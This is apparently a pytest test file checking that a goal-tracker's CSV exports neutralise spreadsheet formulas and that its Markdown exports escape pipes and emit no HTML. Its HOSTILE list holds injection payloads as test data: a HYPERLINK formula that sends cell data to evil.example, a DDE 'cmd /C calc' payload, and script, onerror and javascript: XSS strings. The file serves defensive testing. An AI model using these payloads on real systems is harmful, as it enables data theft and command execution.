"""Exports are safe: CSV cells that a spreadsheet would run as formulas are neutralised and
re-import to the same data; Markdown escapes table pipes and lets no data open HTML."""

from __future__ import annotations

import csv
import io
import re
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from tests.helpers import (
    Invoke,
    add,
    cli_for,
    export_snapshot,
    ok,
    other_db_url,
    strip_volatile,
)
from tracker.csvsafe import escape_cell, unescape_cell

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "'plain apostrophe",
    "=1+1 | with a pipe",
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[click](javascript:alert(1))",
    "![img](http://evil.example/x.png)",
    "`code` *bold* **strong**",
    "pipe | inside | cells",
    "back\\slash \\| escaped pipe",
    "&lt;already&gt; escaped &amp;",
    "<!-- comment",
    "http://evil.example/autolink <http://evil.example>",
]


@pytest.fixture
def hostile(db_url: str) -> Invoke:
    cli = cli_for(db_url)  # the `cli` fixture, with typer's command built once
    for i, text in enumerate(HOSTILE):
        add(
            cli,
            text,
            "--key",
            f"h{i}",
            "--owner",
            text,
            "--area",
            text,
            "--quote",
            text,
            "--description",
            text + "\nsecond line\n=third",
            "--tag",
            re.sub(r'["\\;\[\]]', "", text.split()[0]) or "t",  # tags refuse these
            "--deadline",
            "2026-06-30",
        )
    return cli


# --- CSV --------------------------------------------------------------------------------------
def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("command", [["list", "--as-of", "2026-02-01"], ["export"]])
def test_csv_cells_cannot_be_formulas(hostile: Invoke, command: list[str]) -> None:
    text = ok(hostile(*command, "--format", "csv")).stdout
    rows = csv_rows(text)
    assert len(rows) == len(HOSTILE) + 1
    for row in rows:
        for cell in row:
            assert not cell.startswith(TRIGGERS), cell
    titles = {row[2] for row in rows[1:]}
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"click")' in titles
    assert "''=already quoted" in titles  # a leading ' is itself escaped, so it round-trips
    assert "'plain apostrophe" not in titles and "''plain apostrophe" in titles


def test_csv_export_reimports_to_the_same_data(
    hostile: Invoke, backend: str, request: pytest.FixtureRequest, tmp_path: Path
) -> None:
    path = tmp_path / "hostile.csv"
    ok(hostile("export", "--format", "csv", "-o", str(path)))
    other = cli_for(other_db_url(backend, request, tmp_path))
    ok(other("import", str(path)))

    def current(invoke: Invoke) -> list[dict[str, object]]:
        goals = strip_volatile(export_snapshot(invoke))
        for goal in goals:
            goal.pop("events")
        return goals

    assert current(other) == current(hostile)
    # and the CSV of the copy is the CSV of the original
    again = tmp_path / "again.csv"
    ok(other("export", "--format", "csv", "-o", str(again)))
    assert again.read_text(encoding="utf-8") == path.read_text(encoding="utf-8")


@pytest.mark.parametrize("text", [*HOSTILE, "", "'", "''", "'-", "-", "=", "a=b", "\t=x"])
def test_escape_cell_round_trips(text: str) -> None:
    escaped = escape_cell(text)
    assert not escaped.startswith(TRIGGERS)
    assert unescape_cell(escaped) == text


def test_escape_cell_leaves_numbers_and_booleans() -> None:
    assert escape_cell(-5) == "-5"  # a number is not a formula
    assert escape_cell(None) == ""
    assert (escape_cell(True), escape_cell(False)) == ("true", "false")


# --- Markdown ---------------------------------------------------------------------------------
class _Table(HTMLParser):
    """Rows of cell texts, and every tag seen, from rendered HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.rows: list[list[str]] = []
        self.tags: set[str] = set()
        self._cell: list[str] | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        if tag == "tr":
            self.rows.append([])
        elif tag in ("td", "th"):
            self._cell = []

    def handle_endtag(self, tag: str) -> None:
        if tag in ("td", "th") and self._cell is not None:
            self.rows[-1].append("".join(self._cell))
            self._cell = None

    def handle_data(self, data: str) -> None:
        if self._cell is not None:
            self._cell.append(data)


def render(markdown: str) -> _Table:
    html = MarkdownIt("commonmark", {"html": True}).enable("table").render(markdown)
    parser = _Table()
    parser.feed(html)
    return parser


def test_markdown_escapes_pipes_and_opens_no_html(hostile: Invoke) -> None:
    markdown = ok(hostile("list", "--format", "markdown", "--as-of", "2026-02-01")).stdout
    table = render(markdown)
    # only table structure (and harmless inline emphasis/code) — no a, img, script, comment
    assert table.tags <= {"table", "thead", "tbody", "tr", "th", "td", "em", "strong", "code"}
    assert "<script" not in markdown and "<img" not in markdown and "<!--" not in markdown
    header, *rows = table.rows
    assert header == ["Key", "Title", "Status", "Deadline", "Progress", "Area", "Owner"]
    assert len(rows) == len(HOSTILE)
    by_key = {row[0]: row for row in rows}
    for i, text in enumerate(HOSTILE):
        row = by_key[f"h{i}"]
        assert len(row) == 7, row  # a pipe in the data did not add a column
        if not re.search(r"[*_`]", text):  # emphasis aside, the reader sees the data as is
            assert row[1] == text and row[6] == text, (row, text)


def test_markdown_cells_are_one_line(cli: Invoke) -> None:
    add(cli, "Title", "--key", "ml", "--owner", "Owner")
    ok(cli("update", "ml", "--area", "Area", "--on", "2026-02-01"))
    markdown = ok(cli("list", "--format", "markdown", "--as-of", "2026-02-01")).stdout
    assert markdown.count("\n") == 3  # header, rule, one row
